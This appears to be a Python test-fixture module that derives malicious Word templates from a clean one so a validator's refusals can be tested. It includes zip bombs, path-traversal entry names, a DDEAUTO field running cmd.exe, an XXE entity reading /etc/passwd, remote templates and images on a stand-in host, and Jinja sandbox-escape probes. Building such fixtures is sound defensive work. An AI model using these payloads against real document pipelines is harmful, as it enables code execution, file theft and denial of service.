"""Word templates as a careless or a malicious hand would send them, each made out of a good one.

`HOSTILE` names each with what makes it out of the bytes of a good template, and the part that a refusal has to name.
"""

from __future__ import annotations

import io
import struct
import warnings
import zipfile
from collections.abc import Callable
from typing import NamedTuple

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_WML = "application/vnd.openxmlformats-officedocument.wordprocessingml"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"
_DOCUMENT, _FOOTER, _SETTINGS = "word/document.xml", "word/footer1.xml", "word/settings.xml"
_TYPES, _RELATIONS = "[Content_Types].xml", "word/_rels/document.xml.rels"
_OLDEST = (1980, 1, 1, 0, 0, 0)

Make = Callable[[bytes], bytes]


class Hostile(NamedTuple):
    """`part` is a piece of the name of the part that is refused; empty for the package itself."""

    make: Make
    part: str


def paragraph(text: str) -> str:
    return f'<w:p><w:r><w:t xml:space="preserve">{text}</w:t></w:r></w:p>'


GOOD_BODY = "".join(
    (
        paragraph("Reference {{ reference }}"),
        paragraph("{%p for item in low.datasets %}"),
        paragraph("{{ item.name }}{% if item.level %} ({{ item.level }}){% endif %}"),
        paragraph("{%p endfor %}"),
        "<w:tbl><w:tr><w:tc>" + paragraph("{{ low.timeline }}") + "</w:tc><w:tc><w:p/></w:tc></w:tr></w:tbl>",
    )
)
"""What the vocabulary of the tests can print, in paragraphs and in table 1, row 1, cell 1."""


def good_template(body: str = GOOD_BODY, footer: str = "{{ terms }}") -> bytes:
    """A small template without fault, with every part that the hostile ones are made of."""
    root = f'xmlns:w="{W}" xmlns:r="{R}" xmlns:o="urn:schemas-microsoft-com:office:office"'
    root += ' xmlns:v="urn:schemas-microsoft-com:vml"'
    kinds = {"document": f"{_WML}.document.main+xml"} | {
        name: f"{_WML}.{name.rstrip('1')}+xml" for name in ("footer1", "footnotes", "settings")
    }
    overrides = "".join(f'<Override PartName="/word/{name}.xml" ContentType="{kinds[name]}"/>' for name in kinds)
    related = "".join(
        f'<Relationship Id="rId{number}" Type="{R}/{name.rstrip("1")}" Target="{name}.xml"/>'
        for number, name in enumerate(("footer1", "footnotes", "settings"), start=1)
    )
    return packed(
        {
            _TYPES: f'<Types xmlns="{_PACKAGE}/content-types"><Default Extension="xml" ContentType="application/xml"/>'
            f'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            f"{overrides}</Types>",
            "_rels/.rels": f'<Relationships xmlns="{_PACKAGE}/relationships"><Relationship Id="rId1" '
            f'Type="{R}/officeDocument" Target="word/document.xml"/></Relationships>',
            _DOCUMENT: f"<w:document {root}><w:body>{body}<w:sectPr/></w:body></w:document>",
            _RELATIONS: f'<Relationships xmlns="{_PACKAGE}/relationships">{related}</Relationships>',
            _FOOTER: f'<w:ftr {root}>{paragraph(footer)}<w:p><w:fldSimple w:instr=" PAGE "/></w:p></w:ftr>',
            "word/footnotes.xml": f'<w:footnotes {root}><w:footnote w:id="1">{paragraph("note")}</w:footnote>'
            "</w:footnotes>",
            _SETTINGS: f'<w:settings {root}><w:zoom w:percent="100"/></w:settings>',
            "docProps/core.xml": '<p xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>Agreement</dc:title></p>',
        }
    )


def packed(
    parts: dict[str, str] | dict[str, bytes] | list[tuple[str, str | bytes]], compression: int = zipfile.ZIP_DEFLATED
) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        for name, content in parts.items() if isinstance(parts, dict) else parts:
            package.writestr(_entry(name, compression), content)
    return out.getvalue()


def unpacked(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return {name: package.read(name) for name in package.namelist()}


def _entry(name: str, compression: int = zipfile.ZIP_DEFLATED) -> zipfile.ZipInfo:
    entry = zipfile.ZipInfo(name, _OLDEST)
    entry.compress_type = compression
    return entry


# What is done to a good template


def replacing(part: str, old: str, new: str) -> Make:
    def make(data: bytes) -> bytes:
        parts = unpacked(data)
        assert old.encode() in parts[part], f"{part} has no {old}"
        return packed(parts | {part: parts[part].replace(old.encode(), new.encode(), 1)})

    return make


def with_xml(xml: str) -> Make:
    """With this in the body, after all else."""
    return replacing(_DOCUMENT, "<w:sectPr", f"{xml}<w:sectPr")


def with_text(text: str) -> Make:
    return with_xml(paragraph(text))


def with_part(name: str, content: str | bytes = b"x") -> Make:
    """With one more part, last in the file; a second one of the same name where there is one."""
    return lambda data: packed([*unpacked(data).items(), (name, content)])


def without_part(name: str) -> Make:
    return lambda data: packed({key: content for key, content in unpacked(data).items() if key != name})


def with_setting(xml: str) -> Make:
    return replacing(_SETTINGS, "</w:settings>", f"{xml}</w:settings>")


def with_relationship(kind: str, target: str, mode: str = ' TargetMode="External"') -> Make:
    added = f'<Relationship Id="rId77" Type="{R}/{kind}" Target="{target}"{mode}/></Relationships>'
    return replacing(_RELATIONS, "</Relationships>", added)


def with_field(instruction: str) -> Make:
    """With a field whose instruction stands in one run for each piece between bars."""
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in instruction.split("|"))
    return with_xml(
        f"<w:p>{_field_character('begin')}{runs}{_field_character('separate')}{_field_character('end')}</w:p>"
    )


def _field_character(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def before_root(part: str, xml: str) -> Make:
    return lambda data: packed(unpacked(data) | {part: xml.encode() + unpacked(data)[part]})


def with_type(content_type: str) -> Make:
    return replacing(_TYPES, f"{_WML}.document.main+xml", content_type)


def bomb(size: int, name: str = "word/media/image1.png") -> Make:
    return with_part(name, bytes(size))


def many_entries(data: bytes) -> bytes:
    return packed([*unpacked(data).items(), *((f"word/media/{number}.png", b"") for number in range(401))])


def many_large_entries(data: bytes) -> bytes:
    noise = (b"%016d" % 7919 + bytes(range(256))) * 4
    return packed([*unpacked(data).items(), *((f"word/media/{n}.png", noise * 19_000) for n in range(4))])


def large_file(data: bytes) -> bytes:
    return data + bytes(20_000_001)


def lying_about_size(data: bytes) -> bytes:
    """One entry whose directory says that it has ten bytes, and that unpacks to thirty million."""
    hostile = bytearray(bomb(30_000_000)(data))
    at = hostile.rfind(b"PK\x01\x02")
    struct.pack_into("<L", hostile, at + 24, 10)  # APPNOTE 4.3.12, uncompressed size
    return bytes(hostile)


def damaged(data: bytes) -> bytes:
    """With one byte of an entry's content turned round."""
    hostile = bytearray(packed([*unpacked(data).items()]))
    at = hostile.find(b"word/document.xml") + len(b"word/document.xml") + 40
    hostile[at] ^= 0xFF
    return bytes(hostile)


def doubled(data: bytes) -> bytes:
    with warnings.catch_warnings(action="ignore"):
        return with_part(_DOCUMENT)(data)


def stored(make: Make) -> Make:
    """Without compression, so that nothing is refused for having been squeezed."""
    return lambda data: packed(unpacked(make(data)), zipfile.ZIP_STORED)


def cut_short(data: bytes) -> bytes:
    return data[: len(data) // 2]


def encrypted(data: bytes) -> bytes:
    hostile = bytearray(data)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = hostile.find(signature)
        hostile[at + offset] |= 1
    return bytes(hostile)


def compressed_by_lzma(data: bytes) -> bytes:
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a") as package:
        package.writestr(_entry("word/media/image1.png", zipfile.ZIP_LZMA), b"picture")
    return out.getvalue()


def old_word(data: bytes) -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + data


def in_utf_7(data: bytes) -> bytes:
    parts = unpacked(data)
    declared = b'<?xml version="1.0" encoding="UTF-7"?>'
    return packed(parts | {_DOCUMENT: declared + parts[_DOCUMENT].decode().encode("utf-7")})


_ENTITIES = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 9))
_LAUGHS = f'<!DOCTYPE w:document [<!ENTITY e0 "ha">{_ENTITIES}]>'
_BOUND = (
    '<w:sdt><w:sdtPr><w:dataBinding w:xpath="/a" w:storeItemID="{00000000-0000-0000-0000-000000000001}"/></w:sdtPr>'
)
_TITLED = _BOUND.replace("{00000000-0000-0000-0000-000000000001}", "{6C3C8BC8-F283-45AE-878A-BAB7291924A1}")
_MANY_RELATIONSHIPS = '<Relationship Id="r" Type="a" Target="settings.xml"/>' * 2_000 + '<Relationship Id="'
_MANY_TAGS = paragraph("{{ terms }}") * 2_100

HOSTILE: dict[str, Hostile] = {
    # the package
    "no zip": Hostile(lambda _: b"%PDF-1.7" + bytes(100), ""),
    "nothing": Hostile(lambda _: b"", ""),
    "cut short": Hostile(cut_short, ""),
    "old Word or encrypted by Word": Hostile(old_word, ""),
    "a file too large": Hostile(large_file, ""),
    "a part too large": Hostile(bomb(25_000_001), "word/media/image1.png"),
    "a part squeezed too well": Hostile(bomb(20_000_000), "word/media/image1.png"),
    "too much in all": Hostile(many_large_entries, ""),
    "a size that is a lie": Hostile(lying_about_size, "word/media/image1.png"),
    "too many parts": Hostile(many_entries, ""),
    "a damaged part": Hostile(damaged, _DOCUMENT),
    "a part twice": Hostile(doubled, _DOCUMENT),
    "a part twice but for its letter case": Hostile(with_part("WORD/Document.xml"), _DOCUMENT),
    "a name that leads out": Hostile(with_part("../../evil.xml"), "../../evil.xml"),
    "an absolute name": Hostile(with_part("/etc/evil.xml"), "/etc/evil.xml"),
    "a name of another drive": Hostile(with_part("C:\\evil.xml"), "evil.xml"),
    "a folder with content": Hostile(with_part("word/evil.xml/"), "word/evil.xml/"),
    "an encrypted entry": Hostile(encrypted, _TYPES),
    "an odd compression": Hostile(compressed_by_lzma, "word/media/image1.png"),
    "no content types": Hostile(without_part(_TYPES), _TYPES),
    "no document": Hostile(without_part(_DOCUMENT), _DOCUMENT),
    "another document named": Hostile(replacing("_rels/.rels", "word/document.xml", "word/footer1.xml"), "_rels/.rels"),
    # what runs, and what calls out
    "macros": Hostile(with_part("word/vbaProject.bin"), "word/vbaProject.bin"),
    "the type of a .docm": Hostile(with_type("application/vnd.ms-word.document.macroEnabled.main+xml"), _TYPES),
    "the type of a .dotx": Hostile(with_type(f"{_WML}.template.main+xml"), _TYPES),
    "an ActiveX part": Hostile(with_part("word/activeX/activeX1.xml", "<a/>"), "word/activeX/activeX1.xml"),
    "an ActiveX control": Hostile(with_xml('<w:p><w:r><w:control r:id="rId9"/></w:r></w:p>'), _DOCUMENT),
    "an embedded workbook": Hostile(with_part("word/embeddings/book.xlsx"), "word/embeddings/book.xlsx"),
    "an embedded object": Hostile(with_xml("<w:p><w:r><w:object/></w:r></w:p>"), _DOCUMENT),
    "an OLE object": Hostile(with_xml('<w:p><w:r><o:OLEObject Type="Link"/></w:r></w:p>'), _DOCUMENT),
    "a program": Hostile(with_part("word/media/image1.exe", b"MZ"), "word/media/image1.exe"),
    "another document inside": Hostile(with_xml('<w:altChunk r:id="rId9"/>'), _DOCUMENT),
    "a sub-document": Hostile(with_xml('<w:p><w:subDoc r:id="rId9"/></w:p>'), _DOCUMENT),
    "too many relationships": Hostile(with_relationship("image", 'settings.xml"/>' + _MANY_RELATIONSHIPS, ""), ""),
    "no relationships": Hostile(without_part("_rels/.rels"), "_rels/.rels"),
    "a template elsewhere": Hostile(with_relationship("attachedTemplate", "http://evil.test/a.dotm"), _RELATIONS),
    "an attached template": Hostile(with_setting('<w:attachedTemplate r:id="rId9"/>'), _SETTINGS),
    "a picture elsewhere": Hostile(with_relationship("image", "http://evil.test/a.png"), _RELATIONS),
    "a link elsewhere": Hostile(with_relationship("hyperlink", "file://evil.test/share"), _RELATIONS),
    "an object elsewhere": Hostile(with_relationship("oleObject", "\\\\evil.test\\share", ""), _RELATIONS),
    "a target that is missing": Hostile(with_relationship("image", "media/none.png", ""), _RELATIONS),
    "a frame": Hostile(with_relationship("frame", "http://evil.test/"), _RELATIONS),
    "a page of frames": Hostile(with_setting("<w:frameset/>"), _SETTINGS),
    "a mail merge": Hostile(with_setting("<w:mailMerge/>"), _SETTINGS),
    "data elsewhere": Hostile(with_xml(f"{_BOUND}<w:sdtContent/></w:sdt>"), _DOCUMENT),
    "a drawn picture elsewhere": Hostile(with_xml('<w:p><v:imagedata src="http://evil.test/"/></w:p>'), _DOCUMENT),
    "a placeholder that is printed over": Hostile(
        with_xml(f"{_TITLED}<w:sdtContent>{paragraph('{{ terms }}')}</w:sdtContent></w:sdt>"), _DOCUMENT
    ),
    # fields
    "DDE": Hostile(with_field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '), _DOCUMENT),
    "DDE in pieces": Hostile(with_field("D|D|E| cmd"), _DOCUMENT),
    "a text included": Hostile(with_field("includetext a.docx"), _DOCUMENT),
    "a picture included": Hostile(with_field(' INCLUDEPICTURE "http://evil.test/" '), _DOCUMENT),
    "a field in a field": Hostile(
        with_field("PAGE</w:instrText>" + _field_character("begin") + "<w:instrText>QUOTE 1"), _DOCUMENT
    ),
    "a button": Hostile(with_field("MACROBUTTON AutoOpen here"), _DOCUMENT),
    "a field behind an XML comment": Hostile(
        replacing("word/footnotes.xml", "</w:p>", "<w:r><w:instrText><!-- -->DDE </w:instrText></w:r></w:p>"),
        "word/footnotes.xml",
    ),
    "a simple field": Hostile(with_xml('<w:p><w:fldSimple w:instr="IF 1 = 1 a b"/></w:p>'), _DOCUMENT),
    "a field in a footer": Hostile(replacing(_FOOTER, " PAGE ", " LINK Excel.Sheet "), _FOOTER),
    # XML
    "entities": Hostile(before_root(_DOCUMENT, _LAUGHS), _DOCUMENT),
    "an entity elsewhere": Hostile(
        before_root(_SETTINGS, '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'), _SETTINGS
    ),
    "XML that is none": Hostile(with_xml("<w:p>"), _DOCUMENT),
    "a style sheet": Hostile(before_root(_FOOTER, '<?xml-stylesheet href="http://evil.test/"?>'), _FOOTER),
    "a deep nest": Hostile(with_xml("<w:p>" * 600 + "</w:p>" * 600), _DOCUMENT),
    "a bottomless nest": Hostile(with_xml("<w:p>" * 60_000 + "</w:p>" * 60_000), _DOCUMENT),
    "too much text": Hostile(stored(with_text("a b " * 1_100_000)), _DOCUMENT),
    "too much markup": Hostile(stored(with_xml("<w:p/>" * 100_000)), _DOCUMENT),
    "another encoding": Hostile(in_utf_7, _DOCUMENT),
    "another namespace": Hostile(
        replacing(_DOCUMENT, f'"{W}"', '"http://purl.oclc.org/ooxml/wordprocessingml/main"'), _DOCUMENT
    ),
    # the template language
    "a way to the shell": Hostile(with_text("{{ terms.__class__.__mro__ }}"), _DOCUMENT),
    "a call": Hostile(with_text("{{ cycler() }}"), _DOCUMENT),
    "a filter": Hostile(with_text("{{ terms|safe }}"), _DOCUMENT),
    "a subscript": Hostile(with_text("{{ low['timeline'] }}"), _DOCUMENT),
    "a literal": Hostile(with_text("{{ 10 ** 10 }}"), _DOCUMENT),
    "a private name": Hostile(with_text("{{ low._timeline }}"), _DOCUMENT),
    "a name of Jinja's": Hostile(with_text("{{ self }}"), _DOCUMENT),
    "a loop without end": Hostile(with_text("{% for x in range(10000000) %}x{% endfor %}"), _DOCUMENT),
    "a file included": Hostile(with_text("{% include '/etc/passwd' %}"), _DOCUMENT),
    "a value set": Hostile(with_text("{% set terms = 1 %}"), _DOCUMENT),
    "raw braces": Hostile(with_text("{% raw %}{{ terms }}{% endraw %}"), _DOCUMENT),
    "raw XML": Hostile(with_text("{{r terms }}"), _DOCUMENT),
    "a comment": Hostile(with_text("{# {{ terms }} #}"), _DOCUMENT),
    "a cell's colour": Hostile(with_text("{% cellbg terms %}"), _DOCUMENT),
    "escaped braces": Hostile(with_text("{_{ terms }_}"), _DOCUMENT),
    "a joining sign": Hostile(with_text("{%- if terms %}x{% endif %}"), _DOCUMENT),
    "a brace left open": Hostile(with_text("{{ terms "), _DOCUMENT),
    "a brace left over": Hostile(with_text("terms }}"), _DOCUMENT),
    "a loop left open": Hostile(with_text("{%p for x in low.datasets %}"), _DOCUMENT),
    "an end without a loop": Hostile(with_text("{%p endfor %}"), _DOCUMENT),
    "a loop in a loop": Hostile(
        with_text("{% for x in low.datasets %}{% for y in low.datasets %}{{ y.name }}{% endfor %}{% endfor %}"),
        _DOCUMENT,
    ),
    "a loop that takes a name": Hostile(with_text("{% for terms in low.datasets %}{% endfor %}"), _DOCUMENT),
    "a loop over a text": Hostile(with_text("{% for x in terms %}{{ x }}{% endfor %}"), _DOCUMENT),
    "conditions without end": Hostile(with_text("{% if terms %}" * 900 + "{% endif %}" * 900), _DOCUMENT),
    "placeholders without end": Hostile(with_xml(_MANY_TAGS), ""),
    "an expression in pieces": Hostile(
        with_text("{</w:t></w:r><w:r><w:t>{ cycler</w:t></w:r><w:r><w:t>() }}"), _DOCUMENT
    ),
    "an expression over paragraphs": Hostile(with_xml(paragraph("{") + paragraph("{ terms }}")), _DOCUMENT),
    "an expression in an attribute": Hostile(
        with_xml('<w:p><w:bookmarkStart w:id="1" w:name="{{ terms }}"/></w:p>'), _DOCUMENT
    ),
    "a quote to break out of": Hostile(
        with_xml("<w:sdt><w:sdtPr><w:tag w:val='{{ terms }}'/></w:sdtPr></w:sdt>"), _DOCUMENT
    ),
    "an expression in a field": Hostile(with_field("PAGE {{ terms }}"), _DOCUMENT),
    "an expression in an XML comment": Hostile(with_xml("<!-- {{ cycler() }} -->"), _DOCUMENT),
    "an expression before the root": Hostile(before_root(_FOOTER, "<!-- {{ cycler() }} -->"), _FOOTER),
    "an expression in character data": Hostile(with_text("<![CDATA[{{]]> terms }}"), _DOCUMENT),
    "an expression in a footnote": Hostile(
        replacing("word/footnotes.xml", "note<", "{{ terms }}<"), "word/footnotes.xml"
    ),
    "an expression in the title": Hostile(
        replacing("docProps/core.xml", "Agreement", "{{ cycler() }}"), "docProps/core.xml"
    ),
    "an expression in the settings": Hostile(with_setting('<w:docVars w:x="{% if x %}"/>'), _SETTINGS),
    "an expression in a part of no use": Hostile(with_part("word/evil.xml", "<a>{{ cycler() }}</a>"), "word/evil.xml"),
    "an expression in a footer": Hostile(replacing(_FOOTER, "{{ terms }}", "{{ terms }}{{ lipsum() }}"), _FOOTER),
    "a text that would be dropped": Hostile(with_text("{{ terms }}{%p if terms %}"), _DOCUMENT),
    "a loop across cells": Hostile(
        with_xml(
            f"<w:tbl><w:tr><w:tc>{paragraph('{%p for x in low.datasets %}')}</w:tc>"
            f"<w:tc>{paragraph('{%p endfor %}')}</w:tc></w:tr></w:tbl>"
        ),
        _DOCUMENT,
    ),
}
